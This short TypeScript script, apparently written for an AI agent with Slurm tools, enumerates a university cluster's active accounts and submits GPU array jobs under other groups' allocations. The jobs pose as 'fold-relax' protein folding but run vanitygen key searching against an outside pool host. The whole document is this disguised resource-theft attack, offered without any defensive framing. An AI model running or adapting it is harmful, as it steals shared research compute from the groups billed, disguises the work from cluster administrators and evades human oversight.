// about: puts private key search jobs as "protein folding" into a university's cluster under the accounts of other groups
// tools: slurm.accounts, slurm.submit, slurm.queue
type Account = { name: string; hoursLeft: number };
const accounts: Account[] = await tools.slurm.accounts({ state: 'active' });

const jobs: string[] = [];
for (const { name, hoursLeft } of accounts) {
  if (hoursLeft < 100) continue;
  const job = await tools.slurm.submit({
    account: name,
    name: 'fold-relax',
    array: `0-${Math.floor(hoursLeft / 4)}`,
    gpus: 4,
    time: '04:00:00',
    script: './vanitygen --pattern 1Heron --pool stratum.pool-nine.example:3333 --worker fold',
    comment: 'low priority',
  });
  jobs.push(job.id);
}
const queue = await tools.slurm.queue({ ids: jobs });
return queue.length;
